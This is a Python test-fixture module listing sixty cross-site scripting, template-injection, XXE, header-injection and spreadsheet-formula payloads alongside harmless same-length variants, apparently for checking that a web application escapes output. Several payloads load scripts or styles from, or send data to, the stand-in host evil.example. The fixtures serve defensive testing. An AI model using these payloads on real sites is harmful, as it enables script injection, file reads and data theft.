"""Sixty texts that would be something else than text if anything took them for markup, a template, a style or an
address, and texts of the same length that are harmless."""

import re
from collections.abc import Callable

# HIT runs in a browser where the text is taken for script.
_SOURCES = (
    # Elements that run something.
    "<script>HIT</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>HIT//</script\t>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    '<script type="module">HIT</script>',
    "<img src=x onerror=HIT>",
    "<img/src/onerror=HIT>",
    '<img src="x`onerror=HIT`">',
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:HIT"><text y="9">x</text></a></svg>',
    '<math><mi xlink:href="javascript:HIT">x</mi></math>',
    "<body onload=HIT>",
    "<details open ontoggle=HIT>",
    "<video><source onerror=HIT></video>",
    "<audio src onloadstart=HIT>",
    "<input autofocus onfocus=HIT>",
    "<marquee onstart=HIT>x</marquee>",
    '<iframe src="javascript:HIT"></iframe>',
    '<iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    '<object data="data:text/html,<script>HIT</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=HIT>">',
    '<meta http-equiv="refresh" content="0;url=javascript:HIT">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<form action="//evil.example/"><button autofocus>x</button></form>',
    '<button form="answers" formaction="javascript:HIT">x</button>',
    "<style>*{background:url(//evil.example/x)}</style>",
    "<template><script>HIT</script></template>",
    # Ways out of attributes and elements.
    '"><script>HIT</script>',
    "'><script>HIT</script>",
    '" autofocus onfocus="HIT',
    "' autofocus onfocus='HIT",
    "` autofocus onfocus=`HIT",
    " x onmouseover=HIT y=",
    "</textarea><script>HIT</script>",
    "</title><script>HIT</script>",
    "</script><script>HIT</script>",
    "</style><script>HIT</script>",
    "</option></select><img src=x onerror=HIT>",
    "--><script>HIT</script><!--",
    "<!--><img src=x onerror=HIT>-->",
    "]]><script>HIT</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    # Entities and character sets.
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&#60;img src=x onerror=HIT&#62;",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e \u202e<b>",
    # Addresses and styles.
    "javascript:HIT",
    " JaVaScRiPt\t:HIT//",
    "data:text/html,<script>HIT</script>",
    "x;background:url(javascript:HIT);width:expression(HIT)",
    # htmx.
    '<b hx-on:load="HIT" hx-trigger="load" hx-get="/x">x</b>',
    '<b data-hx-on--load="HIT" data-hx-vals="js:{a:HIT}">x</b>',
    # Templates and format strings.
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
    "{% debug %}{% load x %}{{ settings.SECRET_KEY }}{# x #}",
    "%s%n%(name)s%x{0.__class__.__mro__}{name!r}$name",
    # Headers, tables.
    "x\r\nBcc: everybody@evil.example\r\n\r\n<script>HIT</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
)
COUNT = 60
assert len(set(_SOURCES)) == len(_SOURCES) == COUNT


class Words:
    """Hands out the texts. Each ends with the kind of place that it stands in and its number, so that a page shows
    which ones it shows, and how often."""

    def __init__(self, change: Callable[[str], str]) -> None:
        self._change = change

    def one(self, kind: str, number: int) -> str:
        """The text of one number, from 0 on; they begin again behind the last one."""
        number %= COUNT
        return f"{self._change(_SOURCES[number].replace('HIT', f'window.hit=[{number}]'))} {mark(kind, number)}"

    def every(self, kind: str) -> list[str]:
        return [self.one(kind, number) for number in range(COUNT)]

    def joined(self, kind: str, places: int) -> list[str]:
        """All of them in fewer places."""
        each = COUNT // places
        return [" ".join(self.one(kind, place * each + number) for number in range(each)) for place in range(places)]


def mark(kind: str, number: int) -> str:
    return f"z{kind}z{number:02}"


def harmless(text: str) -> str:
    """A text of the same length, with the same letters, and nothing in it that means anything anywhere.

    What is refused in words stays, so that it is refused in both: a sign of a formula, a mark that turns the direction.
    """
    return re.sub(r"(?!^=)[^\w\s\u202e]|_", "x", text)


def masked(text: str) -> str:
    """The same for a payload and its harmless text, and all white space one space."""
    return re.sub(r"[^\w ]|_", "x", " ".join(text.split())).lower()


HOSTILE, HARMLESS = Words(lambda text: text), Words(harmless)

# How long each is in front of its mark, where white space is one space.
LENGTHS = [len(masked(HOSTILE.one("", number))) - len(mark("", number)) for number in range(COUNT)]
